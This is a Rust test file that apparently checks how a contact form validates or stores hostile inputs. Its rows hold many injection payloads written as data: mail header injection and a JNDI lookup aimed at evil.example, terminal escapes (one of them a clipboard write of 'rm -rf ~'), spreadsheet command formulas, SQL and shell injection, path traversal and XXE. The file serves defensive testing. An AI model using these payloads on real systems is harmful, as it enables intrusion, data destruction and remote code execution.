//! Texts in the contact form that are dangerous in other software: refused with a field error, or stored unchanged.

use serde_json::json;

use super::{Inbox, Row, each, expect};
use crate::server::Server;

/// The expected outcome of a text.
pub enum Outcome {
    /// 422 with an error only for this field; nothing is stored.
    Refused,
    /// 200, and stored unchanged.
    Unchanged,
    /// 200, and stored as this.
    Stored(&'static str),
}
use Outcome::{Refused, Stored, Unchanged};

/// Field, text and outcome.
pub fn rows() -> Vec<Row<(&'static str, String, Outcome)>> {
    let rows = [
        (
            "a header after a name",
            "name",
            "A\r\nBcc: all@evil.example",
            Refused,
        ),
        (
            "a header after a subject",
            "subject",
            "Hi\r\nBcc: all@evil.example",
            Refused,
        ),
        (
            "a header after an address",
            "email",
            "a@b.pk\r\nBcc: all@evil.example",
            Refused,
        ),
        (
            "a header before an address",
            "email",
            "Bcc: all@evil.example\r\na@b.pk",
            Refused,
        ),
        ("a bare CR in a name", "name", "A\rBcc: x", Refused),
        ("a bare LF in a subject", "subject", "A\nBcc: x", Refused),
        (
            "a bare CR in a message",
            "message",
            "all is well\rEVIL",
            Refused,
        ),
        ("a vertical tab", "name", "A\u{b}B", Refused),
        ("a form feed", "subject", "A\u{c}B", Refused),
        ("a tab in one line", "subject", "A\tB", Refused),
        ("an EBCDIC next line", "subject", "A\u{85}Bcc: x", Refused),
        ("an encoded header", "subject", "A%0d%0aBcc:%20x", Unchanged),
        ("an escaped header", "subject", "A\\r\\nBcc: x", Unchanged),
        (
            "a line that ends in a dot",
            "message",
            "Hello\n.\nQUIT",
            Unchanged,
        ),
        ("a NUL in a name", "name", "A\0B", Refused),
        ("a NUL in a message", "message", "A\0B", Refused),
        ("a cleared screen", "message", "\u{1b}[2J\u{1b}[H", Refused),
        ("a window title", "name", "\u{1b}]0;root#\u{7}", Refused),
        (
            "a terminal link",
            "subject",
            "\u{1b}]8;;https://evil.example\u{1b}\\click",
            Refused,
        ),
        (
            "a clipboard",
            "message",
            "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
            Refused,
        ),
        ("a C1 sequence", "message", "\u{9b}31mred", Refused),
        ("a C1 device command", "name", "\u{90}x\u{9c}", Refused),
        ("a bell", "name", "A\u{7}", Refused),
        (
            "backspaces over a word",
            "subject",
            "refuse\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}accept",
            Refused,
        ),
        ("a DEL", "message", "A\u{7f}B", Refused),
        ("two addresses", "email", "a@b.pk,c@d.pk", Refused),
        (
            "two addresses with a semicolon",
            "email",
            "a@b.pk;c@d.pk",
            Refused,
        ),
        (
            "a name before an address",
            "email",
            "Bank <a@b.pk>",
            Refused,
        ),
        ("a quoted mailbox", "email", "\"a b\"@c.pk", Refused),
        ("a comment in an address", "email", "a(b)@c.pk", Refused),
        (
            "an address with an IP literal",
            "email",
            "a@[127.0.0.1]",
            Refused,
        ),
        (
            "an address in Cyrillic",
            "email",
            "\u{430}dmin@b.pk",
            Refused,
        ),
        ("a domain in Cyrillic", "email", "a@b\u{430}nk.pk", Refused),
        ("an address without a domain", "email", "root", Refused),
        ("a local address", "email", "root@localhost", Refused),
        ("two dots in a domain", "email", "a@b..pk", Refused),
        ("two @ signs in an address", "email", "a@b@c.pk", Refused),
        ("a source route", "email", "@a.pk:b@c.pk", Refused),
        ("a script in an address", "email", "<script>@b.pk", Refused),
        (
            "markup after an address",
            "email",
            "a@b.pk\"><img>",
            Refused,
        ),
        (
            "a parameter after an address",
            "email",
            "a@b.pk?bcc=all@evil.example",
            Refused,
        ),
        (
            "a right-to-left override in an address",
            "email",
            "\u{202e}kp.b@a",
            Refused,
        ),
        ("an address with a route", "email", "a%c.pk@b.pk", Refused),
        ("a path of hosts", "email", "c.pk!a@b.pk", Refused),
        ("two dots before the @ sign", "email", "a..b@c.pk", Refused),
        ("a formula as address", "email", "=1+1@b.pk", Unchanged),
        (
            "a name of spaces",
            "name",
            " \u{a0}\u{3000}\u{2003}",
            Refused,
        ),
        (
            "an invisible name",
            "name",
            "\u{200b}\u{2060}\u{feff}",
            Refused,
        ),
        (
            "a name of Hangul fillers",
            "name",
            "\u{3164}\u{115f}",
            Refused,
        ),
        (
            "a message of blank Braille",
            "message",
            "\u{2800} \u{2800}",
            Refused,
        ),
        (
            "a right-to-left override",
            "subject",
            "\u{202e}tnuocca ruoy",
            Unchanged,
        ),
        ("an open isolate", "subject", "\u{2066}Guards", Unchanged),
        (
            "tag characters",
            "subject",
            "Guards\u{e0041}\u{e0042}",
            Unchanged,
        ),
        (
            "emoji with zero-width joiners",
            "subject",
            "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
            Unchanged,
        ),
        (
            "stacked accents",
            "subject",
            "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
            Unchanged,
        ),
        ("a noncharacter", "subject", "\u{fffe}\u{1ffff}", Unchanged),
        (
            "private-use characters",
            "subject",
            "\u{e000}\u{10fffd}",
            Unchanged,
        ),
        ("a replacement character", "subject", "\u{fffd}", Unchanged),
        ("a line separator", "subject", "A\u{2028}B", Unchanged),
        ("a long ligature", "subject", "\u{fdfd}", Unchanged),
        (
            "a formula",
            "subject",
            "=HYPERLINK(\"https://evil.example\")",
            Unchanged,
        ),
        (
            "a spreadsheet command",
            "subject",
            "=cmd|'/c calc'!A1",
            Unchanged,
        ),
        (
            "an SQL statement",
            "subject",
            "'); drop table messages; --",
            Unchanged,
        ),
        ("an SQL placeholder", "subject", "?1 :name @x $y", Unchanged),
        (
            "a shell command",
            "subject",
            "$(reboot) `reboot` ; reboot",
            Unchanged,
        ),
        ("a command option", "subject", "--help", Unchanged),
        ("a path", "subject", "../../../etc/passwd", Unchanged),
        ("a format string", "subject", "%s%n%x {} {0}", Unchanged),
        (
            "a template",
            "subject",
            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
            Unchanged,
        ),
        (
            "a JNDI lookup",
            "subject",
            "${jndi:ldap://evil.example/a}",
            Unchanged,
        ),
        (
            "an XML entity",
            "subject",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\"> &x;",
            Unchanged,
        ),
        (
            "a second JSON object",
            "subject",
            "\",\"state\":\"answered",
            Unchanged,
        ),
        (
            "spaces around a subject",
            "subject",
            "  Guards \n",
            Stored("Guards"),
        ),
        ("Windows line ends", "message", "A\r\nB", Stored("A\nB")),
    ];
    let mut rows: Vec<_> = rows
        .into_iter()
        .map(|(name, field, text, outcome)| (name, (field, text.to_owned(), outcome)))
        .collect();
    rows.extend([
        (
            "a name that is too long",
            ("name", "n".repeat(101), Refused),
        ),
        (
            "a name of multi-byte characters",
            ("name", "\u{1f482}".repeat(100), Unchanged),
        ),
        (
            "a subject that is too long",
            ("subject", "s".repeat(151), Refused),
        ),
        (
            "an address that is too long",
            ("email", format!("{}@b.pk", "a".repeat(250)), Refused),
        ),
        (
            "a message that is too long",
            ("message", "m".repeat(5001), Refused),
        ),
        (
            "very many accents",
            ("message", format!("a{}", "\u{301}".repeat(5000)), Refused),
        ),
        (
            "a domain label that is too long",
            ("email", format!("a@{}.pk", "b".repeat(64)), Refused),
        ),
    ]);
    rows
}

#[test]
fn a_hostile_text_is_refused_or_stored_as_text() {
    let server = Server::start(&[]);
    let inbox = Inbox::of(&server);
    each("texts", &rows(), |(field, text, outcome)| {
        let before = inbox.messages();
        let mut sent = json!({ "name": "Ayesha", "email": "a@example.com", "subject": "Guards", "message": "Call." });
        sent[*field] = text.as_str().into();
        let response = server.post("/api/contact-us", "application/json", &sent.to_string());
        let expected = match outcome {
            Refused => {
                let errors = response.json()["errors"].clone();
                let fields = errors
                    .as_object()
                    .map(|errors| errors.keys().cloned().collect());
                expect(
                    &(response.status, fields),
                    &(422, Some(vec![(*field).to_owned()])),
                )?;
                return expect(&inbox.messages(), &before);
            }
            Unchanged => text,
            Stored(text) => *text,
        };
        expect(&response.status, &200)?;
        expect(&inbox.messages(), &(before + 1))?;
        expect(&inbox.newest_message(field).as_str(), &expected)
    });
}
